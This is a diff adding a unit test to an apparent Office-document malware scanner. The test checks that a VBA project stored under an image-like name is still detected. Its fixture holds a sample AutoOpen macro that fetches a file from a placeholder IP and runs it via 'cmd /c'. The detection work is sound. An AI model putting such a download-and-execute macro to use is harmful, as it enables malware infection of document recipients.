@@ -150,6 +150,38 @@ static void test_docm_vba_through_package(void **state)
     free(bin);
 }
 
+/* A VBA project stored under a media name that no relationship or content type points to
+ * ("media/vba1.bin", a maldoca sample's layout): the part is a compound file, so it is analysed
+ * whatever its name. An image part is not opened for this. */
+static void test_vba_project_under_media_name(void **state)
+{
+    (void)state;
+    eg_fx_module m[] = {{"ThisDocument",
+                         "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n  Set x = "
+                         "CreateObject(\"MSXML2.XMLHTTP\")\r\n"
+                         "  x.Open \"GET\", \"http://198.51.100.45/a\", False\r\n"
+                         "  Shell \"cmd /c a.exe\", 0\r\nEnd Sub\r\n",
+                         true, NULL}};
+    uint8_t *bin;
+    size_t blen;
+    eg_fx_vba_document(EG_FX_VBA_BIN, m, 1, 1252, NULL, 0, &bin, &blen);
+    eg_fx_part p[] = {{"[Content_Types].xml", CT_DOCX, 0},
+                      {"_rels/.rels", RELS, 0},
+                      {"word/document.xml", DOC_PLAIN, 0},
+                      {"media/vba1.bin", (const char *)bin, blen}};
+    eg_report *r = scan_parts("report.docx", p, 4);
+    assert_true(eg_report_has_rule(r, "VBA.MACRO"));
+    assert_true(eg_report_has_rule(r, "VBA.AUTOEXEC_EXECUTION"));
+    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
+    eg_report_free(r);
+    /* the same bytes after a PNG signature are an image, not a compound file */
+    bin[0] = 0x89;
+    r = scan_parts("report.docx", p, 4);
+    assert_false(eg_report_has_rule(r, "VBA.MACRO"));
+    eg_report_free(r);
+    free(bin);
+}
+
 static void test_remote_template_and_dde(void **state)
 {
     (void)state;
@@ -413,6 +445,7 @@ int main(void)
         cmocka_unit_test(test_benign_docx_clean),
         cmocka_unit_test(test_benign_xlsx_hidden_sheet_clean),
         cmocka_unit_test(test_docm_vba_through_package),
+        cmocka_unit_test(test_vba_project_under_media_name),
         cmocka_unit_test(test_remote_template_and_dde),
         cmocka_unit_test(test_lure_text),
         cmocka_unit_test(test_encrypted),
